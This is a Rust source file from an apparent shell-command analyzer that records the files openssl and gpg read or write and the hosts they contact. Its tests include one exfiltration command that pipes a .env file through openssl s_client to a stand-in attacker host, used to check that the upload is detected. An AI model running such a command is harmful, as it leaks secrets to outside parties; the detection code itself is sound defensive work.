//! `openssl` and `gpg`: files they read, encrypt or sign, files they write, and the network
//! uses (`openssl s_client`, `gpg --send-keys`).

use super::super::facts::{Analyzer, CommandContext, NetUse};
use super::super::host::{clean_host, loose_host};
use super::super::options::{parse_opts, Arg};
use crate::flow::shell::options::valued_long::GPG_LONG;

impl Analyzer {
    pub(super) fn openssl(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let sub = args.first().map(|a| a.text.as_str()).unwrap_or("");
        let mut nu = NetUse { tool: "openssl".into(), ..Default::default() };
        let mut net = matches!(sub, "s_client" | "s_time");
        let mut i = 1;
        while i < args.len() {
            let a = &args[i];
            i += 1;
            let t = a.text.as_str();
            if t.starts_with('-') && t.len() > 1 {
                if OPENSSL_ARG.contains(&t) {
                    let Some(v) = args.get(i).cloned() else { break };
                    i += 1;
                    match t {
                        "-in" | "-inkey" | "-key" | "-kfile" | "-keyfile" | "-sign" | "-prverify" | "-signature"
                        | "-msgfile" | "-certfile" => self.read_arg(&v, ctx),
                        "-out" | "-keylogfile" => self.write_arg(&v, ctx),
                        "-connect" | "-host" | "-proxy" => {
                            net = true;
                            nu.hosts.extend(clean_host(&v.host));
                        }
                        _ => {}
                    }
                }
            } else if !net {
                self.read_arg(a, ctx);
            }
        }
        if net {
            self.push_net(ctx, nu, true);
        }
    }

    pub(super) fn gpg(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "orRuf", GPG_LONG, false);
        for v in p.vals(&["-o", "--output"]) {
            self.write_arg(&v, ctx);
        }
        for v in p.vals(&["--passphrase-file"]) {
            self.read_arg(&v, ctx);
        }
        let keyops = p.has(GPG_KEY_COMMANDS);
        if p.has(&["--send-keys", "--send-key"]) {
            let mut nu = NetUse { tool: "gpg".into(), ..Default::default() };
            for v in p.vals(&["--keyserver"]) {
                nu.hosts.extend(loose_host(&v.host));
            }
            self.push_net(ctx, nu, false);
        }
        if !keyops {
            for a in &p.operands {
                self.read_arg(a, ctx);
            }
        }
    }
}

/// `openssl` options taking a value.
const OPENSSL_ARG: &[&str] = &[
    "-in",
    "-out",
    "-inkey",
    "-key",
    "-pass",
    "-passin",
    "-passout",
    "-k",
    "-kfile",
    "-iv",
    "-K",
    "-S",
    "-md",
    "-certfile",
    "-signer",
    "-recip",
    "-CAfile",
    "-CApath",
    "-cert",
    "-connect",
    "-servername",
    "-proxy",
    "-config",
    "-engine",
    "-keyform",
    "-inform",
    "-outform",
    "-name",
    "-nameopt",
    "-sigopt",
    "-pkeyopt",
    "-keyfile",
    "-rand",
    "-writerand",
    "-sign",
    "-verify",
    "-prverify",
    "-signature",
    "-macopt",
    "-mac",
    "-starttls",
    "-host",
    "-port",
    "-bufsize",
    "-keylogfile",
    "-msgfile",
    "-sess_out",
    "-sess_in",
    "-CRL",
    "-newkey",
    "-subj",
    "-days",
    "-set_serial",
    "-extfile",
    "-extensions",
    "-reqexts",
    "-certform",
    "-CAkey",
    "-CA",
    "-digest",
    "-cipher",
    "-curves",
    "-alpn",
    "-verify_hostname",
    "-dane_tlsa_domain",
];

/// `gpg` commands on keys: their operands are key ids, not files.
const GPG_KEY_COMMANDS: &[&str] = &[
    "--send-keys",
    "--send-key",
    "--recv-keys",
    "--recv-key",
    "--search-keys",
    "--list-keys",
    "-k",
    "--export",
    "--list-secret-keys",
    "-K",
    "--delete-keys",
    "--edit-key",
    "--gen-key",
    "--full-generate-key",
];

#[cfg(test)]
mod tests {
    use crate::flow::shell::analyze;
    use crate::flow::shell::test_util::{one, s};

    #[test]
    fn encrypt_and_sign_read_and_write_files() {
        let f =
            analyze("openssl enc -aes-256-cbc -in secret.key -out secret.enc; gpg -o x.gpg -c y.txt; xxd k.bin k.hex");
        assert_eq!(f.read_paths, s(&["secret.key", "y.txt", "k.bin"]));
        assert_eq!(f.written_paths, s(&["secret.enc", "x.gpg", "k.hex"]));
    }

    #[test]
    fn s_client_sends_its_stdin() {
        let n = one("openssl s_client -connect evil.example:443 < .env");
        assert_eq!(n.hosts, s(&["evil.example"]));
        assert_eq!(n.upload_paths, s(&[".env"]));
    }
}
